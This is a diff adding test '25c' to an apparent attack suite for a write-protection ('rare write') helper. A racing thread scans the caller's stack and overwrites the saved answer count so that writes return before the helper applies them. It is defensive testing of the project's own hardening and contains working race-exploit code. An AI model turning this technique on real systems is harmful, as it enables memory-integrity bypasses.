@@ -283,3 +283,118 @@ ATTACK("25b", review3_del_to_write,
 		      "%lu pools, %lu stores, %lu lengths, section intact",
 		      tries, r3b.stores, r3b.lens);
 }
+
+/*
+ * 25c: the answer is matched to its request by a count the caller read
+ * before sending (transact()'s @before), which await_answer() compares
+ * with the answer page on every pass of its wait, from transact()'s stack
+ * frame (0x18(%rsp) in this build), not a register. The attacker, who can
+ * read the answer page (read-only, not secret), stores count - 1 there
+ * while the request is in flight: the caller takes the previous answer
+ * for its own and returns before the helper applied its write (and with
+ * that answer's error, not its own); from then on every call takes the
+ * answer of the call before it (until the helper answers two at once
+ * and the next caller aborts: "answered 2 requests"). Lands when a
+ * rare_write() returns and the value is not there.
+ */
+static uint64_t r3_lag __wr_rare __attribute__((aligned(64)));
+
+static struct {
+	uint64_t *lo, *hi;
+	const volatile uint32_t *count; /* the answer page */
+	volatile int stop;
+	volatile unsigned long stores;
+	volatile uint64_t *slot; /* where @before was found */
+} r3c;
+
+static const volatile uint32_t *r3c_answer_page(void)
+{
+	char line[512];
+	FILE *f = fopen("/proc/self/maps", "r");
+	unsigned long lo = 0;
+
+	while (f && fgets(line, sizeof(line), f))
+		if (strstr(line, "rarewrite-answer")) {
+			sscanf(line, "%lx-", &lo);
+			break;
+		}
+	if (f)
+		fclose(f);
+	return (const volatile uint32_t *)lo;
+}
+
+/* transact()'s frame, from its stack pointer: 0x8 the length expected of
+ * sendmsg() (80: one 8-byte write), 0x10 the request's address (on the
+ * victim's stack; after the send the futex bit), 0x18 @before. */
+__attribute__((no_sanitize_address)) static void *r3c_attacker(void *p)
+{
+	(void)p;
+	while (!r3c.stop && !r3c.stores) { /* one store, then watch */
+		volatile uint64_t *w = r3c.slot;
+		uint32_t c = *r3c.count;
+
+		if (!w) {
+			for (w = r3c.lo; w + 3 < r3c.hi; w++)
+				if (w[0] == 80 && w[1] >= (uintptr_t)r3c.lo &&
+				    w[1] < (uintptr_t)r3c.hi &&
+				    (uint32_t)w[2] == c)
+					break;
+			if (w + 3 >= r3c.hi)
+				continue;
+		}
+		if ((uint32_t)w[2] == c && *r3c.count == c) {
+			*(volatile uint32_t *)&w[2] = c - 1;
+			r3c.stores++;
+		}
+	}
+	return NULL;
+}
+
+ATTACK("25c", review3_answer_count,
+       "while a write waits for its answer, store the answer count less "
+       "one over the count the caller compares (on its stack): the write "
+       "returns before the helper applied it")
+{
+	pthread_t a;
+	unsigned long stale = 0, i;
+	void *stack;
+
+	if (!r3_is_process())
+		attack_report(ATTACK_NA, "no helper");
+	r3c.count = r3c_answer_page();
+	if (!r3c.count)
+		attack_report(ATTACK_ERROR, "no answer page in /proc/self/maps");
+	/* The victim runs on this thread; the attacker scans its stack
+	 * below the caller's frame. */
+	{
+		pthread_attr_t at;
+		size_t size;
+
+		pthread_getattr_np(pthread_self(), &at);
+		pthread_attr_getstack(&at, &stack, &size);
+		r3c.hi = (uint64_t *)__builtin_frame_address(0);
+		r3c.lo = r3c.hi - (64u << 10) / 8;
+		if ((uintptr_t)r3c.lo < (uintptr_t)stack)
+			r3c.lo = stack;
+	}
+	attack_begin();
+	pthread_create(&a, NULL, r3c_attacker, NULL);
+	for (i = 1; i <= 200000 && stale < 100; i++) {
+		rare_write(r3_lag, i);
+		if (attack_load64(&r3_lag) != i)
+			attack_report(ATTACK_OPEN,
+				      "write %lu returned before the helper "
+				      "applied it (%#lx there; %lu stores)",
+				      i, (unsigned long)attack_load64(&r3_lag),
+				      r3c.stores);
+	}
+	r3c.stop = 1;
+	pthread_join(a, NULL);
+	if (stale)
+		attack_report(ATTACK_OPEN,
+			      "%lu of %lu writes returned before the helper "
+			      "applied them (%lu stores)",
+			      stale, i - 1, r3c.stores);
+	attack_report(ATTACK_BLOCKED, "%lu writes, %lu stores, none stale",
+		      i - 1, r3c.stores);
+}
